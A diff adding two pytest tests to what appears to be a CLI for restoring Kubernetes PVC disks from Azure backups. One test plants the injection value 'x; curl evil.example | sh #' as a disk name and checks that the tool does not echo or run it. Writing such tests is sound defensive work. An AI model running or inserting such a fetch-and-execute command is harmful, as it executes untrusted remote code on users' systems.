@@ -273,6 +273,25 @@ def test_a_disk_that_the_pvc_had_before_is_restored_by_its_name(run: Run, api: A
 
 
 @pytest.mark.usefixtures("followed")
+def test_right_after_the_pvc_got_another_disk_there_is_something_to_restore(run: Run, api: Api) -> None:
+    of_disk = ("backupInstanceID", "disk", "restorePoints", "lastSuccessfulBackupTime", "protectionState")
+    for each in api.objects["protecteddisks"]:
+        if each["metadata"]["name"] == "data":
+            each["status"] = {key: value for key, value in each["status"].items() if key not in of_disk}
+    code, _, err = run("restore", "data")
+    assert code == 1 and "The PVC had another disk before: --earlier-disk pvc-before" in err
+    assert "--all-disks" in run("restore-points", "data", "--from", "status")[2]
+    assert "--all-disks" not in run("restore-points", "data", "--all-disks", "--from", "status")[2]
+
+
+def test_a_name_that_somebody_wrote_into_status_is_no_command(run: Run, api: Api) -> None:
+    for each in api.objects["protecteddisks"]:
+        if each["metadata"]["name"] == "data":
+            each["status"] = {**each["status"], "earlierDisks": [{**EARLIER, "name": "x; curl evil.example | sh #"}]}
+    assert "curl" not in "".join(run("restore-points", "data", "--all-disks", "--from", "status")[1:])
+
+
+@pytest.mark.usefixtures("followed")
 def test_the_restore_points_of_an_earlier_disk_are_named_where_azure_cannot_be_read(run: Run) -> None:
     code, out, err = run("restore-points", "data", "--all-disks", "--from", "status")
     assert code == 0 and "EARLIER DISK" in out
